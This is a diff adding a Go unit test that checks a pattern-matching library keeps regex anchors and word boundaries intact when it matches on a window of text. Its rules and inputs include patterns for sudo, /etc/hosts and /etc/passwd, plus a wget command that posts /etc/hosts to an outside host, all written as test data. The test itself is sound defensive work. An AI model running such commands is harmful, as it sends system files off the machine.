@@ -245,6 +245,52 @@ func TestMatchLongLineWindow(t *testing.T) {
 	}
 }
 
+// TestWindowKeepsAssertions: a window cut around a literal hit does not
+// change what ^, $, \A, \z, \b or \B mean: the regexp sees the window's
+// ends as its text's, so a window cut inside a word or short of its line's
+// ends would let "xsudo" match \bsudo\b.
+func TestWindowKeepsAssertions(t *testing.T) {
+	rs, err := Compile([]Rule{
+		{Code: "WORD", Pattern: `\bsudo\b`},
+		{Code: "NOWORD", Pattern: `\Bsudo`},
+		{Code: "LINE", Pattern: `^/etc/hosts$`},
+		{Code: "END", Pattern: `\bfoo$`},
+		{Code: "BEGIN", Pattern: `^abcdef`},
+		{Code: "TEXT", Pattern: `\A/etc/passwd\z`},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range []struct {
+		text string
+		want []string
+	}{
+		{"xsudo", []string{"NOWORD"}},
+		{"sudox ls", nil},
+		{"run sudo ls", []string{"WORD"}},
+		{"wget --post-file=/etc/hosts http://x.io", nil},
+		{"wget --post-file=/etc/hosts", nil},
+		{"/etc/hosts\n/etc/hostsx", []string{"LINE"}},
+		{"notes\n/etc/hosts", []string{"LINE"}},
+		{"xfoo", nil},
+		{"a foo", []string{"END"}},
+		{"a foo bar", nil},
+		{"zzabcdef", nil},
+		{"abcdef and abcdef", []string{"BEGIN"}},
+		{"cat /etc/passwd", nil},
+		{"/etc/passwd", []string{"TEXT"}},
+	} {
+		var got []string
+		for _, m := range rs.Match([]Text{{Where: "t", Text: tt.text}}) {
+			got = append(got, m.Code)
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("Match(%q) = %v, want %v", tt.text, got, tt.want)
+		}
+		checkAgainstNaive(t, rs, tt.text)
+	}
+}
+
 // TestMatchLongLiteral: a required literal longer than the automaton keeps
 // (maxScanLit) is found by its prefix; texts that share only the prefix do
 // not match, and a match reports the true offset and excerpt.
